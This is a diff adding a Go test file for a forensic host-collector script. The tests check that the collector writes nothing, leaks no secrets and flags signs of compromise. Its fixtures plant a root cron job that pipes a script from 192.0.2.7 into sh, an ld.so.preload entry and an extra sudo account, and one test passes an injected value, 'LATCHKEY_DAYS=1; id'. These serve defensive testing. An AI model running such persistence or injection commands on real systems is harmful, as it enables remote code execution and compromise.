@@ -1,0 +1,160 @@
+package app
+
+import (
+	"bytes"
+	"fmt"
+	"io/fs"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+)
+
+// collect runs the collector in a folder, with nothing but these variables.
+func collect(t *testing.T, s *Session, folder string, variables ...string) BundleReading {
+	t.Helper()
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("no sh here")
+	}
+	script, err := s.Collector()
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := exec.CommandContext(t.Context(), sh, "-s")
+	c.Dir, c.Stdin = folder, bytes.NewReader(script)
+	c.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + folder, "TMPDIR=" + folder, "LATCHKEY_LIMIT=6", "LATCHKEY_TEST_SECRET=in-the-environment"}, variables...)
+	var complaints bytes.Buffer
+	c.Stderr = &complaints
+	out, err := c.Output()
+	if err != nil {
+		t.Fatalf("%v: %s", err, complaints.String())
+	}
+	r, err := s.ReadBundle(t.Context(), bytes.NewReader(out))
+	if err != nil || !r.Complete {
+		t.Fatalf("complete %v, %v", r.Complete, err)
+	}
+	if complaints.Len() > 0 {
+		t.Errorf("it complains: %s", complaints.String())
+	}
+	return r
+}
+
+// state is every file below a folder with what changes when it is written.
+func state(t *testing.T, folder string) []string {
+	t.Helper()
+	var all []string
+	err := filepath.WalkDir(folder, func(path string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		info, err := d.Info()
+		if err != nil {
+			return err
+		}
+		all = append(all, fmt.Sprint(path, info.Mode(), info.Size(), info.ModTime().UnixNano(), changed(info)))
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return all
+}
+
+// changed is the time of the last change of a file or its attributes.
+func changed(info fs.FileInfo) any {
+	return info.Sys().(*syscall.Stat_t).Ctim
+}
+
+func sectionWith(r BundleReading, text string) string {
+	for _, s := range r.Sections {
+		if bytes.Contains(s.Text, []byte(text)) {
+			return s.ID
+		}
+	}
+	return ""
+}
+
+// The running system: this machine, with the watched folder as its home, its
+// place for temporary files and its current folder.
+func TestCollectorLive(t *testing.T) {
+	if testing.Short() {
+		t.Skip("looks at the whole machine for some seconds")
+	}
+	folder := t.TempDir()
+	if err := os.WriteFile(filepath.Join(folder, ".bash_history"), []byte("ls\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	before := state(t, folder)
+	r := collect(t, open(t, nil), folder)
+	if after := state(t, folder); !slices.Equal(before, after) {
+		t.Errorf("written:\n%s\nbefore:\n%s", strings.Join(after, "\n"), strings.Join(before, "\n"))
+	}
+	if r.Mode != "live" || len(r.Sections) < 60 || len(r.Host.Accounts) == 0 || len(r.Host.Processes) == 0 || r.Started.IsZero() || r.Host.Clock.Time.IsZero() {
+		t.Errorf("%s: %d sections, %d accounts, %d processes", r.Mode, len(r.Sections), len(r.Host.Accounts), len(r.Host.Processes))
+	}
+	if id := sectionWith(r, "in-the-environment"); id != "" {
+		t.Errorf("section %s has the environment", id)
+	}
+}
+
+// A mounted disk: only its files are told, no secret among them, none changed.
+func TestCollectorRescue(t *testing.T) {
+	root := filepath.Join(t.TempDir(), "a disk")
+	for name, text := range map[string]string{
+		"etc/passwd": secondRoot, "etc/group": "root:x:0:\nsudo:x:27:backup2\n", "etc/hostname": "web1\n",
+		"etc/shadow":                "root:$6$do-not-read:19000:0:99999:7:::\n",
+		"etc/ssh/ssh_host_rsa_key":  "do-not-read",
+		"root/.ssh/id_ed25519":      "do-not-read",
+		"root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA someone\n",
+		"etc/cron.d/update":         "*/5 * * * * root curl -fsSL http://192.0.2.7/i.sh | sh >/dev/null 2>&1\n",
+		"etc/ld.so.preload":         "/usr/local/lib/libx.so\n",
+		"var/lib/dpkg/status":       "",
+		"tmp/name with\nline":       "x",
+	} {
+		path := filepath.Join(root, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	before := state(t, root)
+	r := collect(t, open(t, nil), t.TempDir(), "LATCHKEY_ROOT="+root+"/", "LATCHKEY_LIMIT=30")
+	if after := state(t, root); !slices.Equal(before, after) {
+		t.Errorf("written:\n%s\nbefore:\n%s", strings.Join(after, "\n"), strings.Join(before, "\n"))
+	}
+	if r.Mode != "rescue" || r.Hostname != "web1" || len(r.Host.Processes)+len(r.Host.Sockets) > 0 || len(r.Host.Accounts) != 3 {
+		t.Errorf("%s of %q: %d accounts, %d processes", r.Mode, r.Hostname, len(r.Host.Accounts), len(r.Host.Processes))
+	}
+	for _, rule := range []string{"A01", "C01", "C05"} {
+		if _, ok := foundRule(r, rule); !ok {
+			t.Errorf("%s is not found", rule)
+		}
+	}
+	if id := sectionWith(r, "do-not-read"); id != "" {
+		t.Errorf("section %s has a secret", id)
+	}
+	if sectionWith(r, "name with\nline") == "" {
+		t.Error("the temporary file is not listed")
+	}
+}
+
+func TestCollectorRefuses(t *testing.T) {
+	s := open(t, nil)
+	script, err := s.Collector()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, variable := range []string{"LATCHKEY_ROOT=mnt", "LATCHKEY_ROOT=" + t.TempDir(), "LATCHKEY_DAYS=1; id", "LATCHKEY_LIMIT=x"} {
+		c := exec.CommandContext(t.Context(), "sh", "-s")
+		c.Stdin, c.Env = bytes.NewReader(script), append(os.Environ(), variable)
+		if out, err := c.Output(); err == nil || len(out) > 0 {
+			t.Errorf("%s: %.100q", variable, out)
+		}
+	}
+}
